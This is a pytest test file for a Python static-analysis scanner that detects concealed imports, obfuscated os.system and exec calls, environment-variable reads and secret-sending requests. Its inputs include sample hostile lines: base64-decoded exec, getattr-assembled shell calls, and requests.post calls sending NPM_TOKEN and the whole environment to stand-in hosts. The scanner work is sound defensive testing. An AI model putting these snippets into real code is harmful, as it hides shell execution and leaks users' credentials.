"""Python facts from `ast`: aliases, getattr/__import__ forms, environment, strings."""

from __future__ import annotations

import pytest

from watcher.parse import Facts, parse_source


def _facts(source: str, path: str = "x/m.py") -> Facts:
    facts = parse_source(path, source)
    assert facts is not None
    return facts


@pytest.mark.parametrize(
    ("source", "callee"),
    [
        ("from subprocess import Popen as P\nP(['a'])", "subprocess.Popen"),
        ("import subprocess as sp\nsp.run('x')", "subprocess.run"),
        ("import os\nos.system('x')", "os.system"),
        ("x = 1\n__import__('os').system('x')", "os.system"),
        ("import importlib\nimportlib.import_module('os').popen('x')", "os.popen"),
        ("import os\ngetattr(os, 'sys' + 'tem')('x')", "os.system"),
        ("import builtins\nbuiltins.exec(s)", "exec"),
        ("import urllib.request\nurllib.request.urlopen(u)", "urllib.request.urlopen"),
        ("from urllib.request import urlopen as get\nget(u)", "urllib.request.urlopen"),
    ],
)
def test_callee_resolves_through_aliases(source: str, callee: str) -> None:
    assert (2, callee) in [(c.span.line, c.callee) for c in _facts(source).calls]


def test_lookalikes_keep_their_object() -> None:
    callees = {c.callee for c in _facts("import re\nre.compile('x')\nmodel.eval()\n").calls}
    assert callees == {"re.compile", "model.eval"}


def test_assembled_import_is_concealed() -> None:
    facts = _facts("m = __import__(''.join(['o', 's']))\n")
    assert [(i.module, i.concealed) for i in facts.imports] == [("os", True)]
    (call,) = facts.calls
    assert call.callee == "__import__" and call.first_arg == "os" and call.first_arg_built


def test_decoded_names_fold() -> None:
    facts = _facts("import base64, os\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('x')\n")
    assert ("os.system", True) in [(c.callee, c.concealed) for c in facts.calls]


def test_exec_records_nested_decoders() -> None:
    facts = _facts("import base64\nexec(base64.b64decode(BLOB))\n")
    (sink,) = [c for c in facts.calls if c.callee == "exec"]
    assert sink.arg_callees == ("base64.b64decode",)


@pytest.mark.parametrize(
    ("source", "whole", "key"),
    [
        ("import os\nx = os.environ.copy()", True, None),
        ("import os\nx = dict(os.environ)", True, None),
        ("import os\nx = {**os.environ}", True, None),
        ("import os\nf(**os.environ)", True, None),
        ("import os\nenv = os.environ", True, None),
        ("import os\nfor k in os.environ: pass", True, None),
        ("from os import environ\nx = list(environ.items())", True, None),
        ("import os\nx = os.environ['HOME']", False, "HOME"),
        ("import os\nx = os.environ.get('AWS_KEY')", False, "AWS_KEY"),
        ("import os\nx = os.getenv('GITHUB_TOKEN')", False, "GITHUB_TOKEN"),
        ("import os\nok = 'CI' in os.environ", False, "CI"),
        ("import os\nrun(cmd, env=os.environ)", False, None),
    ],
)
def test_environment_whole_versus_one_key(source: str, whole: bool, key: str | None) -> None:
    reads = _facts(source).env_reads
    assert (reads[0].whole, reads[0].key) == (whole, key)


def test_docstrings_and_bare_strings_are_not_strings() -> None:
    facts = _facts(
        '"""Module doc https://a.invalid"""\n\ndef f():\n    """~/.ssh"""\n    return "v"\n'
    )
    assert [s.value for s in facts.strings] == ["v"]


def test_keyword_string_carries_its_key() -> None:
    (lit,) = _facts("FTP(host='drop.attacker.invalid')\n").strings
    assert (lit.key, lit.value, lit.raw) == (
        "host",
        "drop.attacker.invalid",
        "'drop.attacker.invalid'",
    )


def test_python_2_and_pth_path_lines_do_not_parse() -> None:
    assert parse_source("x/old.py", "print 'hello'\n") is None
    assert parse_source("x.pth", "/usr/lib/site\n") is None


def test_columns_are_characters_not_bytes() -> None:
    source = "s = 'é'; os.system('x')\n"
    (call,) = [c for c in _facts(source).calls if c.callee == "os.system"]
    assert source[call.span.col : call.span.end] == "os.system('x')"


def test_sending_calls_record_the_secrets_in_their_arguments() -> None:
    from watcher.parse import parse_source

    facts = parse_source(
        "a.py",
        "import os, requests\ncred = os.environ['NPM_TOKEN']\n"
        "requests.post('https://c.invalid', json={'v': cred})\n"
        "requests.post('https://c.invalid', data=str(dict(os.environ)), auth=os.getenv('PW'))\n"
        "requests.get('https://api.invalid', params={'q': 'x'})\n",
    )
    assert facts is not None
    by_line = {
        c.span.line: set(c.arg_sources) for c in facts.calls if c.callee.startswith("requests")
    }
    assert by_line == {3: {"env:NPM_TOKEN"}, 4: {"env:*", "env:PW"}, 5: set()}
